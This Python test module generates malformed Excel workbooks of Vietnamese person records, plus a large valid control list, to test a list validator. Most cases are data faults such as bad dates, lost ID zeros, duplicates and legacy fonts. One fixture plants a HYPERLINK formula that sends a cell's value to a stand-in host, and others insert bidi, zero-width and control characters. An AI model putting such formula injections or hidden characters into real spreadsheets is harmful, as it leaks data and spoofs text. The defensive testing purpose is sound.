"""Cells that hold what no list should hold; and the valid list of 20,000 persons to compare with."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from openpyxl import Workbook

from tests.corpus.base import (
    HEADINGS,
    SHEET,
    STRINGS,
    Kind,
    book_of,
    bytes_of,
    edited,
    member,
    person,
    rezipped,
)

# A soft hyphen is a letter of TCVN3, so the hidden signs here are others.
_HIDDEN = {"control": "&#x1;", "bidi": "\u202e", "zero width": "\u200b"}
_LONGEST = 32_767
VALID_ROWS = 20_000


def listed(**changes: Any) -> bytes:
    """Three persons, the first with other values."""
    return bytes_of(book_of([person(1, **changes), person(2), person(3)]))


def decimal_comma() -> bytes:
    content = listed(salary="12,5")
    assert b"<t>12,5</t>" in member(content, STRINGS)
    return content


def number_written(written: bytes) -> bytes:
    """A salary that no program would write as a number."""
    before = listed(salary=9.75)
    return edited(before, SHEET, b"<v>9.75</v>", b"<v>%s</v>" % written)


def hyperlink() -> bytes:
    """A formula with its stored result, in the column of remarks."""
    before = listed(note=1234567)
    formula = b't="str"><f>HYPERLINK("http://example.invalid/"&amp;D2)</f><v>=HYPERLINK("http://x")</v>'
    data, count = re.subn(rb't="n"><v>1234567</v>', formula, member(before, SHEET))
    assert count == 1
    return rezipped(before, {SHEET: data})


def lost_zero() -> bytes:
    content = listed(id_number=40085001234)
    assert b'<c r="H2" t="n"><v>40085001234</v>' in member(content, SHEET)
    return content


def no_such_day() -> bytes:
    content = listed(birth="31/02/1980")
    assert b"<t>31/02/1980</t>" in member(content, STRINGS)
    return content


def year_only() -> bytes:
    content = listed(birth=1980)
    assert b'<c r="E2" t="n"><v>1980</v>' in member(content, SHEET)
    return content


def hidden_sign(sign: str) -> bytes:
    before = listed(name="Nông Văn QQQ")
    text = member(before, STRINGS).replace(b"QQQ", f"B{_HIDDEN[sign]}ình".encode())
    assert _HIDDEN[sign].encode() in text
    return rezipped(before, {STRINGS: text})


def longest() -> bytes:
    content = listed(name="Nông " + "x" * (_LONGEST - 5), note="y" * _LONGEST)
    assert b"y" * _LONGEST in member(content, STRINGS)
    return content


def twice() -> bytes:
    content = bytes_of(book_of([person(1), person(2), person(1, id_number=None)]))
    assert re.search(rb'<c r="D2" t="s"><v>(\d+)</v>.*<c r="D4" t="s"><v>\1</v>', member(content, SHEET))
    return content


def foreign_commune() -> bytes:
    content = listed(code="01297", commune=None)
    assert b"<t>01297</t>" in member(content, STRINGS)
    return content


def old_fonts() -> bytes:
    """Names as TCVN3 and VNI fonts store them."""
    rows = [
        person(1, name="N«ng V¨n B×nh", note="ChuyÓn ®Õn"),
        person(2, name="Hoµng ThÞ Lª", note="§· nghØ phÐp"),
        person(3, name="Lý ThÞ H¹nh", note="Cö ®i häc"),
    ]
    content = bytes_of(book_of(rows))
    assert "N«ng V¨n B×nh".encode() in member(content, STRINGS)
    return content


def control(communes: list[tuple[str, str]] | None = None, rows: int = VALID_ROWS) -> bytes:
    """A valid list: every person of another name, birth and number."""
    places = communes or [("01330", "Cô Ba")]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Danh sách")
    sheet.append(HEADINGS)
    for row in _valid(places, rows):
        sheet.append([row.get(heading) for heading in HEADINGS])
    return bytes_of(book)


def _valid(places: list[tuple[str, str]], rows: int) -> Iterator[dict[str, Any]]:
    for number in range(1, rows + 1):
        code, commune = places[number % len(places)]
        yield person(number, code=code, commune=commune)


KINDS = (
    Kind("salary 12,5", decimal_comma, rows=3),
    Kind("NaN", lambda: number_written(b"NaN"), faults=("bad_number",), rows=3),
    Kind("1e400", lambda: number_written(b"1e400"), faults=("bad_number",), rows=3),
    Kind("hyperlink formula", hyperlink, rows=3),
    Kind("CCCD as number", lost_zero, faults=("id_lost_zero",), rows=3),
    Kind("31-02-1980", no_such_day, faults=("bad_date",), rows=3),
    Kind("year only", year_only, rows=3),
    Kind("control character", lambda: hidden_sign("control"), faults=("unsafe",), rows=3),
    Kind("bidi character", lambda: hidden_sign("bidi"), faults=("unsafe",), rows=3),
    Kind("zero width character", lambda: hidden_sign("zero width"), faults=("unsafe",), rows=3),
    Kind("32767 characters", longest, faults=("too_long", "too_long"), rows=3),
    Kind("same person twice", twice, faults=("person_twice",), rows=3),
    Kind("foreign commune", foreign_commune, faults=("out_of_scope_commune",), rows=3),
    Kind("old fonts", old_fonts, rows=3),
)
